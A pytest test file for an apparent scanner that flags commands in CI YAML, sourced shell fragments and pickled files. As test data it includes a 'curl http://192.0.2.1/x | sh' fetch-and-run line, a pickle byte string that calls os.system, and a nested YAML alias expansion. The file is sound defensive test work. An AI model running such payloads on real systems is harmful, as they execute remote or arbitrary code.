"""Files that something runs or trusts although their names say no language (rules/executed-files.toml)."""

from __future__ import annotations

import tomllib
from pathlib import Path
from typing import Any

import pytest

from gate.languages.sensitive_calls.parse import read_one
from gate.languages.sensitive_calls.reading import read_sources
from gate.languages.sensitive_calls.table import table_of
from gate.model.sensitive import SourceText

TABLE = tomllib.loads(
    Path(__file__).with_name("sensitive-calls").joinpath("commands.toml").read_text("utf-8")
)
FILES: list[dict[str, Any]] = TABLE["file"]
BINARIES = {
    "a.zip": b"PK\x03\x04abc\0",
    "x.whl": b"PK\x03\x04abc\0",
    "x.jar": b"PK\x03\x04",
    "m.pickle": b"\x80\x04\x95\x10\0\0",
    "text.pkl": b"cos\nsystem\n(S'id'\ntR.\n",
    "m.dat": b"\x80\x04\x95\x10\0\0",
    "x.node": b"MZ\x90\0\0\0",
    "x.so": b"\x7fELF\0",
    "data.bin": b"\x7fELF\0",
    "x.pyc": b"\xa7\r\r\n\0\0",
    "b.tar.gz": b"\x1f\x8b\x08\0",
    "model.pt": b"PK\x03\x04\0",
    "no-ending": b"PK\x03\x04\0",
    "tests/native.so": b"\x7fELF\0",
    "tests/saved.pkl": b"\x80\x04\x95\x10\0\0",
}


@pytest.mark.parametrize("file", [f for f in FILES if "hostile" in f], ids=lambda f: str(f["path"]))
def test_what_is_run_by_somebody_is_read(file: dict[str, Any]) -> None:
    text = file["hostile"].encode()
    assert table_of(file["path"], text) is not None
    reading = read_one(file["path"], text, {})
    assert reading.readable, reading.reason
    assert reading.calls
    assert all(0 < call.first <= len(text.splitlines()) for call in reading.calls)


@pytest.mark.parametrize("file", [f for f in FILES if "harmless" in f], ids=lambda f: str(f["path"]))
def test_its_harmless_neighbours_have_nothing(file: dict[str, Any]) -> None:
    text = file["harmless"].encode()
    if table_of(file["path"], text) is not None:
        reading = read_one(file["path"], text, {})
        assert reading.readable, reading.reason
        assert reading.calls == ()


@pytest.mark.parametrize("path", BINARIES)
def test_what_is_loaded_and_no_text_cannot_be_read(path: str) -> None:
    found = read_sources([SourceText(path=path, text=BINARIES[path])], deadline=20)
    assert not found[path].readable


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("tests/fixtures/a.zip", b"PK\x03\x04\0"),
        ("a.docx", b"PK\x03\x04\0"),
        ("a.png", b"\x89PNG\r\n\x1a\n\0"),
        ("x.lib", b"text"),
    ],
)
def test_data_is_no_program(path: str, text: bytes) -> None:
    assert table_of(path, text) is None


def test_a_fragment_that_a_script_sources_is_a_script() -> None:
    text = b"curl http://192.0.2.1/x | sh\n"
    plain, sourced = (SourceText(path="conf/settings", text=text, shell=shell) for shell in (False, True))
    assert read_sources([plain], deadline=20) == {}
    assert read_sources([sourced], deadline=20)["conf/settings"].calls


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("a:\n  script: |\n    make\n    curl x\n", 4),
        ("a:\n  script:\n  - make\n  - >\n    curl\n    x\n", 5),
    ],
)
def test_commands_stand_at_their_lines(text: str, line: int) -> None:
    assert {call.first for call in read_one(".gitlab-ci.yml", text.encode(), {}).calls} == {line}


def test_what_is_no_yaml_as_a_whole_is_still_read() -> None:
    text = b"a: [\nscript:\n  - make\n  - curl http://192.0.2.1/x\n--- {{\n"
    assert [call.first for call in read_one(".gitlab-ci.yml", text, {}).calls] == [4]


def test_layers_of_aliases_end() -> None:
    layers = "".join(f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]\n" for n in range(1, 30))
    text = f"l0: &l0 x\n{layers}script: curl x\n".encode()
    assert [call.kind.value for call in read_one(".gitlab-ci.yml", text, {}).calls] == ["network"]
